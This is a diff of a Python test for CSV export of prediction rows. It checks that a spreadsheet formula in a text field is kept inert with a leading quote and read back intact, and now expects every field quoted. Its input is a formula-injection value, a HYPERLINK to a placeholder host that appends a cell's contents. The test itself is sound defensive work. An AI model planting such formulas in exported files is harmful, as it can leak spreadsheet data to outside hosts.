@@ -12,9 +12,9 @@ def test_a_formula_is_kept_from_spreadsheets_and_comes_back(tmp_path):
     row = Prediction("test", '=HYPERLINK("http://host/?"&A1)', "good", "bad")
     (tmp_path / FILE).write_text(predictions_csv(["good", "bad"], [(row, [0.25, 0.75])]))
     head, line = (tmp_path / FILE).read_text().splitlines()
-    assert head == "part,text,label,said,p_good,p_bad"
-    assert line.startswith("test,\"'=HYPERLINK(")
-    assert line.endswith(",good,bad,0.2500,0.7500")
+    assert head == '"part","text","label","said","p_good","p_bad"'
+    assert line.startswith('"test","\'=HYPERLINK(')
+    assert line.endswith(',"good","bad",0.2500,0.7500')
     assert read_predictions(tmp_path / FILE) == [row]
 
 
